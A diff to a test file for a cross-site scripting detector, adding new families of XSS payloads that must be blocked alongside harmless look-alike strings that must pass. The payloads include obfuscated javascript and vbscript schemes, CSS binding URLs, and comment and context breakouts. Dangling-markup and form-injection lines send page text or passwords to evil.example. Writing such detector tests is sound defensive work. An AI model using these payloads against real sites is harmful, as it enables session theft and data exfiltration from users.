@@ -1,4 +1,4 @@
-"""XSS families added in sessions 2 and 3: each with variants that must block and look-alikes that must not.
+"""XSS families added in sessions 2 to 4: each with variants that must block and look-alikes that must not.
 
 All through the whole detector (triggers included), so a family the prefilter does not
 let through fails here too.
@@ -67,6 +67,33 @@ FAMILIES = {
     "injected form": ['<form action="//evil.example/"><input name=u><input type="password" name=p></form>',
                       '<!doctype html><form><label>PIN</label><input name="secret" type="password"></form>',
                       '<a data-remote=true data-method=delete href=/delete_account>CLICK</a>'],
+    # session 4
+    # a script scheme whose colon a filter removed, followed by code reaching a sink
+    "scheme without colon": ['<a href="javascript#alert(1);">', "<a href='javascript#document.cookie=true;'>",
+                             '-1<a href="javascript#document.write(1)">x</a>', "<iframe src=vbscript#msgbox(1)>"],
+    # attribute values quoted with back ticks (old IE only): past filters that look for quotes
+    "back-tick quoted link": ["<a href=``calc``>", "<a href=``xss.cx``>", "<img src=``x.png``>"],
+    # the unprefixed binding property probes try beside -moz-binding
+    "css binding": ['<div style="binding: url([link to code]);">', "<p style='binding:url(x.xml#xss)'>x</p>",
+                    '-1<div style="binding: url(//evil.example/a.xml);">'],
+    # an attribute whose value is a call that pops up or runs code (evaluated by page script, or a probe)
+    "attribute call": ["<body scroll=alert(1)>", "<video poster=prompt(1)//></video>",
+                       '<p class="comment" title="*/prompt(1)\'"></p>', '<div data-x="confirm(document.domain)">'],
+    # one value closing every raw-text element it might sit in, back to back
+    "context closers": ["</stYle/</titLe/</teXtarEa/</scRipt/--!>", "</style></title></textarea></script>",
+                        "</noscript></title></textarea>"],
+    # dangling markup: a fetched URL attribute left open, so the page's text goes to that host;
+    # a script URL cut short by a length limit
+    "left open": ['<img src="http://evil.example/log?', "'><img src='//evil.example/?", '"<marquee><img src="http://x.example/a.png',
+                  "<IMG SRC='javasc", '<a href="javascr', "<iframe src='vbscri"],
+    # a script element whose angle brackets a filter or layer removed
+    "bracketless script": ["scriptalert(crosssitescripting)/script", "-1scriptdocument.cookie=true;/script",
+                           '>"scriptdocument.cookie=true;/script', "'scriptprompt(1)/script"],
+    # the value ends the page's /* comment and runs code
+    "comment breakout": ["*/alert(1)/*", "*/prompt(document.domain)//", "x*/confirm(1)/*"],
+    # a script scheme with reference-shaped tokens between its letters, in any case
+    "hidden scheme": ["ja&tab;vascript: ", "v&newline;b&tab;s&newline;c&newline;r&tab;i&tab;p&newline;t&colon;:",
+                      "java&TAB;script:x", "jav&NewLine;ascript&colon;"],
 }
 
 LOOK_ALIKES = [
@@ -86,6 +113,17 @@ LOOK_ALIKES = [
     "close it with ); </script>", "</b><h1>x</h1>", "text </title><h1>x</h1>", "</title>",
     "</div><div class=a>t</div>", 'use <input type="password"> inside a <form> element', "<input type=password>",
     "<form><input name=q></form>", '<a data-method="get" href="/x">x</a>',
+    # session 4
+    '<a href="https://example.com/#alert">x</a>', '<a href="javascript-tutorial.html">js</a>',
+    '<a href="/docs/javascript#intro">JavaScript intro</a>', '<a title="alert(1)">x</a>', '<img alt="prompt(1)">',
+    '<input value="confirm(1)">', '<span title="call alert(1) to test">x</span>', '<div style="color:red">x</div>',
+    '<div style="font-family: Binding, serif">x</div>', "use </script> and </style> and </title> to close",
+    "</title></textarea>", "</script>", "Java&amp;Script: the good parts", "AT&amp;T: javascript jobs",
+    "at&t script: hello", '<a href="https://example.com/a`b">x</a>',
+    "Here's a video: <a href=\"https://www.youtube.com/watch?v=", '<img src="x.png', "<img src='java.png",
+    '<img src="https://cdn.example/a.png">', "<a href='jav", "javascript/script", "/js/script/script.js",
+    "see script and /script tags", "script (alert) /script", "the script is in /script/run.sh",
+    "a */ b", "/* note */ call alert(1) later", "*/ see alert (1) /*", "5 */ 2 = 2.5",
 ]
 
 
